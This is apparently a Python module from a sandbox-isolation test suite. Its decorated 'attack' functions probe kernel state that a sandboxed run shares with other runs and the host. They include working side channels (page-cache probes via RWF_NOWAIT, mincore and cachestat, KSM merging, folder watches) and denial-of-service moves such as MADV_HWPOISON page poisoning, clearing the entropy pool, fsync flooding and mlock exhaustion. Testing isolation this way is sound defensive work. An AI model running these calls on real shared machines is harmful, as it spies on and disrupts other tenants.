"""What is shared with other runs and with the host after all: page cache, watches, locks, counters of the whole machine."""

from inside import TMP, MACHINE, NotHere, attack, call_number, file_roundtrip, proc_is_there, raw_call_works

import ctypes
import errno
import fcntl
import mmap
import os
import struct
import time

SYSTEM_FILE = "/usr/bin/env"
_SYSINFO = {"x86_64": 99, "aarch64": 179}
_MADVISE = {"x86_64": 28, "aarch64": 233}


def own_lock_works():
    one, other = (os.open(TMP + "/lock", os.O_CREAT | os.O_RDWR) for _ in range(2))
    fcntl.flock(one, fcntl.LOCK_EX)
    try:
        fcntl.flock(other, fcntl.LOCK_EX | fcntl.LOCK_NB)
    except BlockingIOError:
        return True


def own_advice_works():
    page = mmap.mmap(-1, mmap.PAGESIZE)
    page.write(b"x")
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    call_number(_MADVISE[MACHINE], address, mmap.PAGESIZE, mmap.MADV_DONTNEED)  # a private anonymous page would be zero; this one is shared
    return page[0] == ord("x")


def _watch(folder):
    """dnotify, fcntl(2): a signal at each access by anyone, on any folder that can be opened."""
    fcntl.fcntl(os.open(folder, os.O_RDONLY), fcntl.F_NOTIFY, fcntl.DN_ACCESS | fcntl.DN_MODIFY | fcntl.DN_MULTISHOT)
    return f"is told of each access to what lies in {folder}, other runs' too"


@attack("learns", file_roundtrip)
def watch_system_folder(facts):
    """Watches which programs other runs read: the inodes of /usr are the same in all cells."""
    return _watch(os.path.dirname(SYSTEM_FILE))


@attack("learns", file_roundtrip)
def watch_modules(facts):
    """Watches which modules other runs import."""
    return _watch(os.path.dirname(os.__file__))


@attack("learns", file_roundtrip)
def watch_shared_folder(facts):
    """Watches who reads or writes in /app, the host's own processes too: it is the host's inode."""
    return _watch("/app")


@attack("learns", file_roundtrip)
def watch_by_inotify(facts):
    """The same by inotify."""
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init1(0)
    if fd < 0 or libc.inotify_add_watch(fd, b"/usr/bin", 1) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "watches"


@attack("learns", file_roundtrip)
def page_cache_by_nowait(facts):
    """Asks whether others have read a file lately: RWF_NOWAIT fails on what isn't in the page cache (mincore's hole, CVE-2019-5489)."""
    if not hasattr(os, "preadv") or not hasattr(os, "RWF_NOWAIT"):
        raise NotHere("this Python has no preadv2")
    for path in (SYSTEM_FILE, *(os.path.join("/app", name) for name in os.listdir("/app"))):
        if os.path.isfile(path):
            try:
                os.preadv(os.open(path, os.O_RDONLY), [bytearray(1)], 0, os.RWF_NOWAIT)
                return f"{path} is cached"
            except BlockingIOError:
                return f"{path} is not cached"
            except OSError as error:
                last = error
    raise last


@attack("learns", raw_call_works)
def page_cache_by_mincore(facts):
    """The same by mincore itself."""
    with open(SYSTEM_FILE, "rb") as file:
        area = mmap.mmap(file.fileno(), 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE, flags=mmap.MAP_PRIVATE)
        told = (ctypes.c_ubyte * 1)()
        call_number({"x86_64": 27, "aarch64": 232}[MACHINE], ctypes.addressof(ctypes.c_char.from_buffer(area)), 4096, told)
    return "told"


@attack("learns", raw_call_works)
def page_cache_by_cachestat(facts):
    """The same by cachestat(2), Linux 6.5."""
    call_number(451, os.open(SYSTEM_FILE, os.O_RDONLY), (ctypes.c_uint64 * 2)(), (ctypes.c_uint64 * 5)(), 0)
    return "told"


@attack("learns", proc_is_there)
def host_disk_name(facts):
    """Learns which device the host's files are on: FS_IOC_GETFSSYSFSPATH, include/uapi/linux/fs.h."""
    for path in ("/usr", "/app", "/usr/bin"):
        said = bytearray(129)
        try:
            fcntl.ioctl(os.open(path, os.O_RDONLY), 0x80811501, said)
        except OSError as error:
            last = error
            continue
        if not said[1:].startswith((b"overlay", b"tmpfs")):
            return bytes(said[1:1 + said[0]]).decode()
    raise last


@attack("slows", own_lock_works)
def lease_on_system_file(facts):
    """Takes a lease on a system file: who opens it would wait for the leaseholder."""
    fcntl.fcntl(os.open(SYSTEM_FILE, os.O_RDONLY), 1024, fcntl.F_RDLCK)
    return "leased"


@attack("slows", file_roundtrip)
def drop_cache_of_file(facts):
    """Has the kernel forget what it has read of a shared file: POSIX_FADV_DONTNEED, posix_fadvise(2), asks for no right."""
    names = [path for path in ("/app/" + name for name in os.listdir("/app")) if os.path.isfile(path)]
    if not names or not hasattr(os, "RWF_NOWAIT"):
        raise NotHere("no file in /app")
    fd = os.open(names[0], os.O_RDONLY)
    os.pread(fd, 1, 0)
    for _ in range(50):
        os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
        try:
            os.preadv(fd, [bytearray(1)], 0, os.RWF_NOWAIT)
        except BlockingIOError:
            return f"{names[0]} must be read from the disk again"
        time.sleep(0.002)
    return None


@attack("slows", file_roundtrip)
def flush_disk(facts):
    """Has the host's disk write its journal, again and again: fsync of a file that it may only read, where sync(2) does nothing."""
    names = [path for path in ("/app/" + name for name in os.listdir("/app")) if os.path.isfile(path)]
    if not names:
        raise NotHere("no file in /app")
    os.fsync(os.open(names[0], os.O_RDONLY))
    try:
        os.fsync(999)
    except OSError:
        return "the disk was asked to write"
    return None  # a descriptor that isn't open is as good: the kernel was never asked


@attack("surface", own_advice_works)
def merge_pages(facts):
    """Has ksmd merge its pages with those of other runs: the time of a write then tells what they hold (CVE-2015-2877)."""
    area = mmap.mmap(-1, 1 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    call_number(_MADVISE[MACHINE], ctypes.addressof(ctypes.c_char.from_buffer(area)), 1 << 20, 12)
    return "they will be merged"


@attack("slows", own_advice_works)
def poison_page(facts):
    """Has the kernel believe that the memory is broken: MADV_HWPOISON takes the page from the machine for good."""
    area = mmap.mmap(-1, mmap.PAGESIZE)
    call_number(_MADVISE[MACHINE], ctypes.addressof(ctypes.c_char.from_buffer(area)), mmap.PAGESIZE, 100)
    return "poisoned"


@attack("slows", own_advice_works)
def retire_page(facts):
    """The gentler kind, MADV_SOFT_OFFLINE: moved away, and the page taken out of use."""
    area = mmap.mmap(-1, mmap.PAGESIZE)
    area[0] = 1
    call_number(_MADVISE[MACHINE], ctypes.addressof(ctypes.c_char.from_buffer(area)), mmap.PAGESIZE, 101)
    return "taken out of use"


@attack("writes", proc_is_there)
def shared_writable_memory(facts):
    """Finds memory that is shared for writing with the zygote, and by it with all other runs."""
    with open("/proc/self/maps") as maps:
        return [line.strip() for line in maps if line.split()[1][1] == "w" and line.split()[1][3] == "s"]


@attack("writes", proc_is_there)
def shared_memory_made_writable(facts):
    """Asks for write access to mappings that it shares read-only with others."""
    done = []
    mprotect = {"x86_64": 10, "aarch64": 226}[MACHINE]
    with open("/proc/self/maps") as maps:
        shared = [line.split() for line in maps if line.split()[1][3] == "s"]
    for fields in shared:
        begin, end = (int(part, 16) for part in fields[0].split("-"))
        try:
            call_number(mprotect, begin, end - begin, 3)
            done.append(fields[-1])
        except OSError as error:
            if error.errno != errno.EACCES:
                raise
    return done


@attack("slows", file_roundtrip)
def entropy_is_credited(facts):
    """Claims to have added randomness that it knows: RNDADDENTROPY, random(4)."""
    fcntl.ioctl(os.open("/dev/random", os.O_RDWR), 0x40085203, struct.pack("ii8s", 64, 8, b"\0" * 8))
    return "credited"


@attack("slows", file_roundtrip)
def entropy_is_cleared(facts):
    """Has the kernel forget its randomness: RNDCLEARPOOL and RNDRESEEDCRNG, random(4)."""
    fd = os.open("/dev/random", os.O_RDWR)
    for request in (0x5206, 0x5207):
        fcntl.ioctl(fd, request)
    return "cleared"


@attack("slows", file_roundtrip)
def wake_the_machine(facts):
    """Starts a timer that wakes a machine from sleep: CLOCK_BOOTTIME_ALARM, timerfd_create(2)."""
    fd = call_number({"x86_64": 283, "aarch64": 85}[MACHINE], 9, 0)
    return fd >= 0 and "started"


@attack("slows", raw_call_works)
def lock_much_memory(facts):
    """Locks memory, so that all others' must go first: mlock beyond its limit."""
    area = mmap.mmap(-1, 64 << 20)
    call_number({"x86_64": 149, "aarch64": 228}[MACHINE], ctypes.addressof(ctypes.c_char.from_buffer(area)), 64 << 20)
    return "64 MiB are locked"


@attack("slows", raw_call_works)
def idle_priority_of_user(facts):
    """Slows all processes of its uid, of which the cell's must be the only ones: setpriority(PRIO_USER)."""
    pid = facts["victim"]
    os.setpriority(os.PRIO_USER, 65534, 19)
    return f"process {pid} may be slowed"
